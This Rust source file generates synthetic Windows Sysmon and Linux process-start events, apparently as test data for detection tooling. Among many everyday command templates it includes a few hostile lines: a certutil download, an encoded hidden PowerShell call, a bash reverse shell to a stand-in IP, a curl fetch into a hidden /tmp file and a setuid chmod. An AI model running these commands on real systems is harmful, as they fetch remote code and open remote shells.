//! Process starts as a busy machine makes them: everyday programs, some suspicious ones, with values that vary.

use serde_json::{Value, json};

/// A small generator, so that two runs see the same events.
pub struct Random(u64);

impl Random {
    /// Begins at a seed.
    pub fn new(seed: u64) -> Self {
        Self(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1)
    }

    /// The next number (xorshift64*).
    pub fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    /// A number below `bound`.
    pub fn below(&mut self, bound: usize) -> usize {
        usize::try_from(self.next() % bound.max(1) as u64).unwrap_or(0)
    }

    fn pick<'a, T>(&mut self, list: &'a [T]) -> &'a T {
        &list[self.below(list.len())]
    }

    fn hex(&mut self, digits: usize) -> String {
        let text: String = (0..digits.div_ceil(16))
            .map(|_| format!("{:016X}", self.next()))
            .collect();
        text[..digits].to_owned()
    }
}

/// Image, command line with `{}` for a word that varies, original file name, description.
const WINDOWS: &[(&str, &str, &str, &str)] = &[
    (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s {}",
        "svchost.exe",
        "Host Process for Windows Services",
    ),
    (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\System32\svchost.exe -k LocalServiceNetworkRestricted -p -s {}",
        "svchost.exe",
        "Host Process for Windows Services",
    ),
    (
        r"C:\Windows\System32\conhost.exe",
        r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
        "CONHOST.EXE",
        "Console Window Host",
    ),
    (
        r"C:\Windows\System32\taskhostw.exe",
        r"taskhostw.exe Install $(Arg{})",
        "taskhostw.exe",
        "Host Process for Windows Tasks",
    ),
    (
        r"C:\Windows\System32\backgroundTaskHost.exe",
        r#""C:\Windows\system32\backgroundTaskHost.exe" -ServerName:CortanaUI.AppX{}.mca"#,
        "backgroundTaskHost.exe",
        "Background Task Host",
    ),
    (
        r"C:\Windows\System32\RuntimeBroker.exe",
        r"C:\Windows\System32\RuntimeBroker.exe -Embedding",
        "RuntimeBroker.exe",
        "Runtime Broker",
    ),
    (
        r"C:\Windows\System32\dllhost.exe",
        r"C:\Windows\system32\DllHost.exe /Processid:{{{}}}",
        "dllhost.exe",
        "COM Surrogate",
    ),
    (
        r"C:\Windows\System32\SearchProtocolHost.exe",
        r#""C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe{}_ Global\UsGthrCtrlFltPipeMssGthrPipe 1 -2147483646"#,
        "SearchProtocolHost.exe",
        "Microsoft Windows Search Protocol Host",
    ),
    (
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --extension-process --lang=en-US --device-scale-factor=1 --num-raster-threads=2 --renderer-client-id={} --mojo-platform-channel-handle=4320"#,
        "chrome.exe",
        "Google Chrome",
    ),
    (
        r"C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe",
        r#""C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe" /ua /installsource scheduler /{}"#,
        "msedgeupdate.dll",
        "Microsoft Edge Update",
    ),
    (
        r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
        r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" /recycle {}"#,
        "Outlook.exe",
        "Microsoft Outlook",
    ),
    (
        r"C:\Windows\System32\cmd.exe",
        r#"C:\Windows\system32\cmd.exe /c "C:\Program Files\Backup\{}.cmd" --quiet"#,
        "Cmd.Exe",
        "Windows Command Processor",
    ),
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r#"powershell.exe -NoProfile -NonInteractive -File "C:\ProgramData\Inventory\{}.ps1""#,
        "PowerShell.EXE",
        "Windows PowerShell",
    ),
    (
        r"C:\Windows\System32\schtasks.exe",
        r#"schtasks.exe /Query /TN "\Vendor\{}" /FO LIST"#,
        "schtasks.exe",
        "Task Scheduler Configuration Tool",
    ),
    (
        r"C:\Windows\System32\msiexec.exe",
        r"C:\Windows\system32\msiexec.exe /V {}",
        "msiexec.exe",
        "Windows installer",
    ),
    (
        r"C:\Users\anna\AppData\Local\Programs\Code\Code.exe",
        r#""C:\Users\anna\AppData\Local\Programs\Code\Code.exe" --type=utility --utility-sub-type=node.mojom.NodeService --lang=de --user-data-dir="C:\Users\anna\AppData\Roaming\Code" --field-trial-handle={}"#,
        "electron.exe",
        "Code",
    ),
    (
        r"C:\Program Files\Git\cmd\git.exe",
        r"git.exe -c core.quotepath=false fetch origin {} --prune",
        "git.exe",
        "Git for Windows",
    ),
    (
        r"C:\Windows\System32\whoami.exe",
        r"whoami /all",
        "whoami.exe",
        "whoami - displays logged on user information",
    ),
    (
        r"C:\Windows\System32\certutil.exe",
        r"certutil.exe -urlcache -split -f http://192.0.2.10/{}.exe C:\Users\Public\u.exe",
        "CertUtil.exe",
        "CertUtil.exe",
    ),
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r"powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0{}",
        "PowerShell.EXE",
        "Windows PowerShell",
    ),
];

/// Parent image and command line.
const WINDOWS_PARENTS: &[(&str, &str)] = &[
    (
        r"C:\Windows\System32\services.exe",
        r"C:\Windows\system32\services.exe",
    ),
    (r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE"),
    (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
    ),
    (
        r"C:\Windows\System32\cmd.exe",
        r"C:\Windows\system32\cmd.exe /c build.cmd",
    ),
    (
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        r#""C:\Program Files\Google\Chrome\Application\chrome.exe""#,
    ),
];

/// Image and command line with `{}` for a word that varies.
const LINUX: &[(&str, &str)] = &[
    ("/usr/bin/apt-get", "apt-get -y install {}"),
    (
        "/usr/bin/dash",
        "/bin/sh -c cd / && run-parts --report /etc/cron.hourly",
    ),
    ("/usr/bin/git", "git -c gc.auto=0 fetch --all --prune origin {}"),
    (
        "/usr/lib/gcc/x86_64-linux-gnu/12/cc1",
        "cc1 -quiet -I include -imultiarch x86_64-linux-gnu -O2 -Wall {}.c -o /tmp/cc{}.s",
    ),
    ("/usr/bin/as", "as -I include --64 -o build/{}.o /tmp/cc{}.s"),
    (
        "/usr/bin/python3.11",
        "/usr/bin/python3 /usr/bin/unattended-upgrade --verbose",
    ),
    (
        "/usr/bin/rsync",
        "rsync -aHAX --delete -e ssh /srv/{} backup.example:/srv/",
    ),
    (
        "/usr/bin/docker",
        "docker run --rm -v /srv/data:/data:ro registry.example/{}:1.2 --listen 0.0.0.0:80",
    ),
    ("/usr/sbin/sshd", "sshd: {} [priv]"),
    ("/usr/bin/grep", "grep -rn --include=*.rs {} crates"),
    ("/usr/bin/sed", "sed -i s/{}/x/g /srv/app/config.ini"),
    ("/usr/bin/find", "find /var/log -name {}*.gz -mtime +30"),
    ("/usr/bin/systemctl", "systemctl is-active {}.service"),
    ("/usr/bin/tar", "tar -C /srv -czf /var/backups/{}.tar.gz app"),
    (
        "/usr/bin/node",
        "node /srv/app/node_modules/.bin/vite build --mode {}",
    ),
    ("/usr/bin/cat", "cat /proc/sys/kernel/{}"),
    ("/usr/bin/bash", "bash -c bash -i >& /dev/tcp/192.0.2.7/{} 0>&1"),
    ("/usr/bin/curl", "curl -fsSL https://example.com/{}.sh -o /tmp/.x"),
    ("/usr/bin/chmod", "chmod u+s /tmp/{}"),
    ("/usr/bin/base64", "base64 -d /tmp/{}"),
];

const WORDS: &[&str] = &[
    "alpha", "billing", "cache-3", "deploy", "engine", "frontend", "gpsvc", "Schedule", "BITS", "wuauserv",
    "metrics", "node-17", "report", "storage", "ticket", "web",
];

fn line(template: &str, random: &mut Random) -> String {
    let mut text = String::new();
    let mut parts = template.split("{}");
    text.push_str(parts.next().unwrap_or_default());
    for part in parts {
        text.push_str(WORDS[random.below(WORDS.len())]);
        text.push_str(&random.below(10_000).to_string());
        text.push_str(part);
    }
    text
}

/// Process starts in the words of Windows' event log, some 1.3 KB of JSON each.
pub fn windows(count: usize, seed: u64) -> Vec<Value> {
    let mut random = Random::new(seed);
    let one = |random: &mut Random| {
        let (image, template, original, description) = *random.pick(WINDOWS);
        let (parent, parent_line) = *random.pick(WINDOWS_PARENTS);
        let user = *random.pick(&[
            r"NT AUTHORITY\SYSTEM",
            r"CORP\anna",
            r"CORP\ben",
            r"NT AUTHORITY\NETWORK SERVICE",
        ]);
        json!({
            "EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Provider_Name": "Microsoft-Windows-Sysmon",
            "Computer": format!("ws-{:03}.corp.example", random.below(400)), "EventRecordID": random.below(10_000_000),
            "RuleName": "-", "UtcTime": format!("2026-11-26 10:{:02}:{:02}.{:03}", random.below(60), random.below(60), random.below(1000)),
            "ProcessGuid": format!("{{{}}}", random.hex(36)), "ProcessId": random.below(30_000),
            "Image": image, "FileVersion": "10.0.19041.1 (WinBuild.160101.0800)", "Description": description,
            "Product": "Microsoft® Windows® Operating System", "Company": "Microsoft Corporation", "OriginalFileName": original,
            "CommandLine": line(template, random), "CurrentDirectory": r"C:\Windows\system32\", "User": user,
            "LogonGuid": format!("{{{}}}", random.hex(36)), "LogonId": format!("0x{}", random.hex(6)), "TerminalSessionId": random.below(3),
            "IntegrityLevel": *random.pick(&["System", "Medium", "High"]),
            "Hashes": format!("SHA1={},MD5={},SHA256={},IMPHASH={}", random.hex(40), random.hex(32), random.hex(64), random.hex(32)),
            "ParentProcessGuid": format!("{{{}}}", random.hex(36)), "ParentProcessId": random.below(30_000),
            "ParentImage": parent, "ParentCommandLine": parent_line, "ParentUser": user,
        })
    };
    (0..count).map(|_| one(&mut random)).collect()
}

/// Process starts as the agent tells them.
pub fn linux(count: usize, seed: u64) -> Vec<Value> {
    let mut random = Random::new(seed);
    let one = |random: &mut Random| {
        let (image, template) = *random.pick(LINUX);
        let sha256 = random.hex(64).to_lowercase();
        json!({
            "Image": image, "CommandLine": line(template, random), "CurrentDirectory": *random.pick(&["/", "/root", "/home/anna", "/srv/app"]),
            "User": *random.pick(&["root", "anna", "www-data"]), "ProcessId": random.below(4_000_000), "ProcessGuid": random.hex(32),
            "ProcessName": image.rsplit('/').next(), "ParentImage": *random.pick(&["/usr/bin/bash", "/usr/bin/dash", "/usr/sbin/cron", "/usr/bin/make"]),
            "ParentCommandLine": *random.pick(&["-bash", "/bin/sh -e /usr/lib/build", "/usr/sbin/cron -f", "make -j8"]),
            "Hashes": format!("SHA256={sha256}"), "sha256": sha256,
        })
    };
    (0..count).map(|_| one(&mut random)).collect()
}
